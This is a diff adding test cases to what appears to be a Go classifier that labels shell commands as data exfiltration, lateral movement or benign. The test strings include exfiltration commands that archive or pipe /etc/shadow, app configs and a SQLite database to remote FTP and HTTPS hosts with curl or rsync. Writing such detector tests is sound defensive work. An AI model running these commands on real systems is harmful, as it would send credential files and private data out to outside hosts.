@@ -18,6 +18,11 @@ var classifyCases = []struct {
 	// local copy or a fetch does not
 	{"/usr/bin/sudo -n /usr/bin/rsync -a /etc/shadow /srv/app/conf rsync://127.0.0.1:8730/drop/desk/", classExfilImpact},
 	{"rsync -az /var/www/ backup@192.0.2.4:/srv/backups/www/", classExfilImpact},
+	// an archive piped into an upload: data out, whatever login the
+	// destination takes (the login alone, on a fetch, is lateral)
+	{"tar -czf - -C / srv/app/conf etc/shadow 2>/dev/null | curl -s -T - ftp://drop:pw@127.0.0.1:2121/x.tgz; echo rc=$?", classExfilImpact},
+	{"cat /srv/app/db.sqlite | curl --data-binary @- -u up:pw https://203.0.113.9/in", classExfilImpact},
+	{"curl -s ftp://drop:pw@127.0.0.1:2121/tasks/1.txt", classLateral},
 	{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
 	{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
 	// ssh forwarding out of this host (-L, -D: a SOCKS pivot) reaches
